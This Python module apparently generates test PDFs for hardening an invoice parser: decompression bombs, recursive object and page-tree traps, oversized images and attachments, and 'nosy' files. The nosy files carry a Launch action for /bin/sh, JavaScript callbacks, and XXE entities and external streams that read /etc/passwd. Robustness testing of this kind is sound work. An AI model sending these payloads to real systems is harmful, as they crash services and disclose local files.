"""PDFs made to hurt: each small on the wire, and large, deep, endless or nosy in whoever opens it. All made here.

The text of a page is an invoice's, so that a bomb is not refused for being none.
"""

import zlib
from collections.abc import Callable

PAGE = b"BT /F 9 Tf 50 700 Td (INVOICE No 42 Total 120.00 EUR) Tj ET"
GIBIBYTE = 1 << 30
Objects = list[bytes]


def pdf(objects: Objects, trailer: bytes = b"") -> bytes:
    """A file of numbered objects, the first of which is the catalog; the cross-reference table is right."""
    body, offsets = bytearray(b"%PDF-1.7\n"), list[int]()
    for number, content in enumerate(objects, 1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    table += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    end = b"trailer\n<</Root 1 0 R/Size %d%b>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, trailer, len(body))
    return bytes(body) + table + end


def one_page(content: bytes, filters: bytes = b"/FlateDecode", *more: bytes, resources: bytes = b"") -> bytes:
    """A page whose content stream is given as it is stored; `more` are objects from 6 on."""
    return pdf([
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
        b"/Resources<</Font<</F 5 0 R>>%b>>>>" % resources,
        stream(content, b"/Filter[%b]" % filters),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        *more,
    ])  # fmt: skip


def with_catalog(entries: bytes, *more: bytes) -> bytes:
    """An honest page below a catalog with more entries; `more` are objects from 6 on."""
    return pdf([
        b"<</Type/Catalog/Pages 2 0 R%b>>" % entries,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>",
        stream(zlib.compress(PAGE), b"/Filter/FlateDecode"),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        *more,
    ])  # fmt: skip


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<<%b/Length %d>>stream\n%b\nendstream" % (entries, len(content), content)


def deflated(block: bytes, times: int) -> bytes:
    """The block so many times, compressed (RFC 1950): made once and repeated, for gigabytes would take their time."""
    deflater = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    part = deflater.compress(block) + deflater.flush(zlib.Z_FULL_FLUSH)
    check = 1
    for _ in range(times):
        check = zlib.adler32(block, check)
    return b"\x78\xda" + part * times + b"\x03\x00" + check.to_bytes(4, "big")


def _spaces(size: int) -> bytes:
    return deflated(b" " * (1 << 20), size >> 20)


def flate_two_gigabytes() -> bytes:
    return one_page(_spaces(2 * GIBIBYTE))


def flate_in_flate() -> bytes:
    return one_page(zlib.compress(_spaces(2 * GIBIBYTE), 9), b"/FlateDecode/FlateDecode")


def a_thousand_filters() -> bytes:
    return one_page(PAGE.hex().encode() + b">", b"/ASCIIHexDecode" * 1_000)


def run_length() -> bytes:
    return one_page(zlib.compress(b"\x81 " * (64 << 20), 9), b"/FlateDecode/RunLengthDecode")


def lzw() -> bytes:
    return one_page(_spaces(256 << 20), b"/FlateDecode/LZWDecode")


def predictor_columns() -> bytes:
    content = stream(zlib.compress(PAGE), b"/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 2147483647>>")
    return one_page(zlib.compress(PAGE)).replace(stream(zlib.compress(PAGE), b"/Filter[/FlateDecode]"), content)


def forms_of_forms() -> bytes:
    """Ten to the ninth paintings of one form."""
    levels = 9
    forms = [
        stream(
            b"/X Do " * 10 if level < levels else b"q Q",
            b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>" % (7 + level),
        )
        for level in range(levels + 1)
    ]
    return one_page(zlib.compress(b"/X Do"), b"/FlateDecode", *forms, resources=b"/XObject<</X 6 0 R>>")


def a_form_that_paints_itself() -> bytes:
    form = stream(b"/X Do " * 50, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>")
    return one_page(zlib.compress(b"/X Do"), b"/FlateDecode", form, resources=b"/XObject<</X 6 0 R>>")


def five_million_saves() -> bytes:
    return one_page(deflated(b"q " * 1_000_000, 5))


def a_million_texts() -> bytes:
    return one_page(deflated(b"BT /F 9 Tf 1 0 0 1 9 9 Tm (12.00) Tj ET " * 10_000, 100))


def ten_million_characters() -> bytes:
    return one_page(deflated(b"BT /F 9 Tf (" + b"1" * 100_000 + b") Tj ET ", 100))


def paths_without_end() -> bytes:
    return one_page(deflated(b"0 0 m 9 9 l 5 5 7 7 9 9 c S " * 100_000, 40))


def a_hundred_thousand_pages() -> bytes:
    count = 100_000
    kids = b" ".join(b"%d 0 R" % number for number in range(3, 3 + count))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    return pdf(
        [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[%b]/Count %d>>" % (kids, count), *[page] * count]
    )


def a_page_count_that_lies() -> bytes:
    return with_catalog(b"").replace(b"/Count 1>>", b"/Count 2147483647>>")


def pages_that_are_their_own_parent() -> bytes:
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2/Parent 2 0 R>>"])


def a_tree_of_pages_100_000_deep() -> bytes:
    depth = 100_000
    nodes = [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % number for number in range(3, 3 + depth)]
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", *nodes, b"<</Type/Page/MediaBox[0 0 9 9]>>"])


def arrays_in_arrays() -> bytes:
    return with_catalog(b"/X" + b"[" * 500_000 + b"]" * 500_000)


def dictionaries_in_dictionaries() -> bytes:
    return with_catalog(b"/X" + b"<</X" * 200_000 + b" 1" + b">>" * 200_000)


def a_table_that_leads_to_itself() -> bytes:
    honest = with_catalog(b"")
    start = honest.rindex(b"startxref\n") + len(b"startxref\n")
    offset = honest[start : honest.index(b"\n", start)]
    return honest.replace(b"/Size 6", b"/Size 6/Prev " + offset)


def a_length_that_refers_to_itself() -> bytes:
    return with_catalog(b"").replace(b"/Length %d" % len(zlib.compress(PAGE)), b"/Length 4 0 R")


def objects_in_streams() -> bytes:
    head = b"".join(b"%d 0 " % number for number in range(10, 200_010))
    inner = deflated(head + b"1 " * 100, 1)
    return with_catalog(b"/X 10 0 R", stream(inner, b"/Type/ObjStm/N 10000000/First %d/Filter/FlateDecode" % len(head)))


def an_attachment_of_two_gigabytes() -> bytes:
    return with_catalog(
        b"/Names<</EmbeddedFiles<</Names[(factur-x.xml) 6 0 R]>>>>/AF[6 0 R]",
        b"<</Type/Filespec/F(factur-x.xml)/UF(factur-x.xml)/AFRelationship/Data/EF<</F 7 0 R>>>>",
        stream(_spaces(2 * GIBIBYTE), b"/Type/EmbeddedFile/Subtype/text#2Fxml/Filter/FlateDecode"),
    )


def a_hundred_thousand_attachments() -> bytes:
    names = b" ".join(b"(f%d.xml) 6 0 R" % number for number in range(100_000))
    return with_catalog(
        b"/Names<</EmbeddedFiles<</Names[%b]>>>>" % names,
        b"<</Type/Filespec/F(factur-x.xml)/EF<</F 7 0 R>>>>",
        stream(zlib.compress(b"<a/>"), b"/Type/EmbeddedFile/Filter/FlateDecode"),
    )


def names_that_lead_to_themselves() -> bytes:
    return with_catalog(b"/Names<</EmbeddedFiles 6 0 R>>", b"<</Kids[6 0 R 6 0 R]>>")


def a_map_of_characters_without_end() -> bytes:
    ranges = b"<0000> <ffff> <0000>\n" * 20_000
    cmap = b"/CIDInit /ProcSet findresource begin begincmap 20000 beginbfrange\n%bendbfrange endcmap end" % ranges
    font = b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/DescendantFonts[8 0 R]/ToUnicode 7 0 R>>"
    descendant = (
        b"<</Type/Font/Subtype/CIDFontType2/BaseFont/X/CIDSystemInfo<</Registry(A)/Ordering(I)/Supplement 0>>>>"
    )
    return one_page(
        zlib.compress(b"BT /G 9 Tf <00010002> Tj ET"), b"/FlateDecode", font,
        stream(zlib.compress(cmap), b"/Filter/FlateDecode"), descendant,
        resources=b"/XObject<<>>/Font<</F 5 0 R/G 6 0 R>>",
    )  # fmt: skip


def a_picture_of_ten_gigapixels() -> bytes:
    image = stream(
        _spaces(64 << 20),
        b"/Type/XObject/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 8/ColorSpace/DeviceRGB"
        b"/Filter/FlateDecode",
    )
    return one_page(
        zlib.compress(b"q 595 0 0 842 0 0 cm /I Do Q"), b"/FlateDecode", image, resources=b"/XObject<</I 6 0 R>>"
    )


def a_page_as_large_as_a_country() -> bytes:
    return with_catalog(b"").replace(b"[0 0 595 842]", b"[0 0 2147483647 2147483647]")


def encrypted_with_nothing() -> bytes:
    honest = with_catalog(b"", b"<</Filter/Standard/V 5/R 6/O()/U()/P -1>>")
    return honest.replace(b"/Size 7", b"/Size 7/Encrypt 6 0 R/ID[<00><00>]")


def a_function_that_calls_for_gigabytes() -> bytes:
    function = stream(
        b"\x00", b"/FunctionType 0/Domain[0 1 0 1 0 1]/Range[0 1]/Size[65535 65535 65535]/BitsPerSample 32"
    )
    shading = b"<</ShadingType 1/ColorSpace/DeviceGray/Function 6 0 R>>"
    return one_page(zlib.compress(b"/S sh"), b"/FlateDecode", function, shading, resources=b"/Shading<</S 7 0 R>>")


def actions() -> bytes:
    """What a viewer would do: run, open, send, fetch."""
    script = b"/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://127.0.0.1:9/'\\))>>"
    return with_catalog(
        script + b"/AA<</WC<</S/Launch/F(/bin/sh)>>>>/URI<</Base(http://127.0.0.1:9/)>>",
        b"<</S/SubmitForm/F<</FS/URL/F(http://127.0.0.1:9/)>>>>",
    )


def a_stream_in_another_file() -> bytes:
    content = stream(b"", b"/F<</Type/Filespec/F(/etc/passwd)>>/FFilter/ASCIIHexDecode")
    return one_page(zlib.compress(PAGE)).replace(stream(zlib.compress(PAGE), b"/Filter[/FlateDecode]"), content)


def a_form_in_another_file() -> bytes:
    form = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(/etc/hostname)/Page 0>>/Length 0>>stream\n\nendstream"
    return one_page(zlib.compress(b"/X Do"), b"/FlateDecode", form, resources=b"/XObject<</X 6 0 R>>")


def an_xfa_form_with_an_entity() -> bytes:
    xfa = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><xdp:xdp xmlns:xdp="u">&e;</xdp:xdp>'
    return with_catalog(b"/AcroForm<</XFA 6 0 R/Fields[]>>", stream(zlib.compress(xfa), b"/Filter/FlateDecode"))


def an_attachment_with_an_entity() -> bytes:
    xml = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    return with_catalog(
        b"/Names<</EmbeddedFiles<</Names[(factur-x.xml) 6 0 R]>>>>/AF[6 0 R]",
        b"<</Type/Filespec/F(factur-x.xml)/UF(factur-x.xml)/AFRelationship/Data/EF<</F 7 0 R>>>>",
        stream(zlib.compress(xml), b"/Type/EmbeddedFile/Filter/FlateDecode"),
    )


BOMBS: tuple[Callable[[], bytes], ...] = (
    flate_two_gigabytes, flate_in_flate, a_thousand_filters, run_length, lzw, predictor_columns, forms_of_forms,
    a_form_that_paints_itself, five_million_saves, a_million_texts, ten_million_characters, paths_without_end,
    a_hundred_thousand_pages, a_page_count_that_lies, pages_that_are_their_own_parent, a_tree_of_pages_100_000_deep,
    arrays_in_arrays, dictionaries_in_dictionaries, a_table_that_leads_to_itself, a_length_that_refers_to_itself,
    objects_in_streams, an_attachment_of_two_gigabytes, a_hundred_thousand_attachments, names_that_lead_to_themselves,
    a_map_of_characters_without_end, a_picture_of_ten_gigapixels, a_page_as_large_as_a_country, encrypted_with_nothing,
    a_function_that_calls_for_gigabytes,
)  # fmt: skip
# Those that reach out: read under strace as well.
NOSY: tuple[Callable[[], bytes], ...] = (
    actions, a_stream_in_another_file, a_form_in_another_file, an_xfa_form_with_an_entity, an_attachment_with_an_entity,
)  # fmt: skip
